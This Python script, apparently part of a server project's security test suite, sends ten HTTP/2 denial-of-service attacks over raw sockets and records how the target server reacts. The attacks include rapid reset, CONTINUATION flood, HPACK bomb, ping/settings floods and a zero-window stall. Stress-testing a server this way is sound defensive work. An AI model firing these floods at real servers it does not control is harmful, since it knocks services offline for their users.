"""Adversarial HTTP/2 clients against luna-h2 (hyperframe + hpack, raw sockets).

Usage: attacks.py HOST PORT ATTACK. Runs one attack on one connection, reads what the
server sends until it closes the connection (bounded), and prints
'ATTACK <name> goaway=<code or none> rst=<n RST_STREAMs> closed=<0|1> refused=<n>
debug=<the GOAWAY's debug data>'. `zero_window` and `idle` wait (up to 20 s) for the
server's send / idle timeout to end the connection.

Also a module: `run(host, port, attack, wait)` does the same and returns the outcome as
a dict (the protocol-attack benchmark, r2c/tests/bench/attack_bench.py, repeats it).
"""
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKS = [
    "rapid_reset",
    "made_you_reset",
    "continuation_flood",
    "hpack_bomb",
    "ping_flood",
    "settings_flood",
    "empty_frames",
    "window_overflow",
    "zero_window",
    "idle",
]


def req(enc, host, path="/"):
    return enc.encode(
        [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", host)]
    )


def headers(sid, block, end_stream=True, end_headers=True):
    f = HeadersFrame(sid)
    f.data = block
    if end_stream:
        f.flags.add("END_STREAM")
    if end_headers:
        f.flags.add("END_HEADERS")
    return f.serialize()


def frames(attack, host):
    """The attack's bytes after the preface: its SETTINGS frame, then a list of frames."""
    enc = Encoder()
    settings = SettingsFrame(0)
    if attack == "zero_window":
        settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    out = []
    if attack == "rapid_reset":
        for i in range(2000):
            sid = 1 + 2 * i
            out.append(headers(sid, req(enc, host)))
            out.append(RstStreamFrame(sid, error_code=8).serialize())
    elif attack == "made_you_reset":
        # Each stream is reset by the server because of what the client sends (a
        # WINDOW_UPDATE of 0 on it), not by the client.
        for i in range(2000):
            sid = 1 + 2 * i
            out.append(headers(sid, req(enc, host)))
            out.append(WindowUpdateFrame(sid, window_increment=0).serialize())
    elif attack == "continuation_flood":
        out.append(headers(1, req(enc, host)[:2], end_headers=False))
        for _ in range(10000):
            c = ContinuationFrame(1)
            c.data = b"\x82"
            out.append(c.serialize())
    elif attack == "hpack_bomb":
        big = "a" * 4000
        block = enc.encode([("x-bomb", big)])  # literal with incremental indexing
        block += bytes([0xBE]) * 4000  # index 62: the new entry, 4,000 times
        out.append(headers(1, req(enc, host) + block))
    elif attack == "ping_flood":
        for i in range(5000):
            out.append(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())
    elif attack == "settings_flood":
        for _ in range(5000):
            out.append(SettingsFrame(0).serialize())
    elif attack == "empty_frames":
        out.append(headers(1, req(enc, host), end_stream=False))
        for _ in range(5000):
            out.append(DataFrame(1, data=b"").serialize())
    elif attack == "window_overflow":
        out.append(WindowUpdateFrame(0, window_increment=(1 << 31) - 1).serialize())
    elif attack == "zero_window":
        # Initial window 0 and never a WINDOW_UPDATE: replies can never be sent. 150
        # streams: the first 100 hold their slots, the rest are refused; then quiet,
        # until the server's send timeout says GOAWAY and closes.
        for i in range(150):
            out.append(headers(1 + 2 * i, req(enc, host, "/big")))
    elif attack == "idle":
        pass  # the preface and SETTINGS, then nothing: the idle timeout ends it
    else:
        raise ValueError("unknown attack %r" % attack)
    return settings.serialize(), out


def outcome(s, wait):
    """Reads what the server sends for up to `wait` seconds or until it closes; the
    GOAWAY code and debug data, RST_STREAMs (REFUSED_STREAM ones) and whether it closed."""
    buf = bytearray()
    closed = 0
    deadline = time.time() + wait
    s.settimeout(min(1.0, max(wait, 0.01)))
    while time.time() < deadline:
        try:
            d = s.recv(1 << 16)
        except socket.timeout:
            continue
        except OSError:
            closed = 1
            break
        if not d:
            closed = 1
            break
        buf += d
    goaway, rst, refused, at, debug = "none", 0, 0, 0, ""
    while at + 9 <= len(buf):
        f, length = Frame.parse_frame_header(memoryview(buf[at : at + 9]))
        if at + 9 + length > len(buf):
            break
        f.parse_body(memoryview(buf[at + 9 : at + 9 + length]))
        if isinstance(f, GoAwayFrame):
            goaway = f.error_code
            debug = f.additional_data.decode("ascii", "replace")
        elif isinstance(f, RstStreamFrame):
            rst += 1
            refused += f.error_code == 7
        at += 9 + length
    return {"goaway": goaway, "rst": rst, "closed": closed, "refused": refused, "debug": debug}


def run(host, port, attack, wait=20):
    """One attack on one new connection; the outcome, plus `frames` (frames sent after
    the preface and SETTINGS) and `bytes` (all bytes sent)."""
    settings, out = frames(attack, host)
    s = socket.create_connection((host, port), timeout=10)
    try:
        s.sendall(PREFACE + settings)
        data = b"".join(out)
        try:
            s.sendall(data)
        except OSError:
            pass  # the server may close while we still send
        r = outcome(s, wait)
    finally:
        s.close()
    r["frames"] = len(out)
    r["bytes"] = len(PREFACE) + len(settings) + len(data)
    return r


def line(attack, r):
    return (
        f"ATTACK {attack} goaway={r['goaway']} rst={r['rst']} closed={r['closed']} "
        f"refused={r['refused']} debug={r['debug']}"
    )


if __name__ == "__main__":
    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if attack not in ATTACKS:
        print("unknown attack", attack)
        sys.exit(2)
    print(line(attack, run(host, port, attack)))
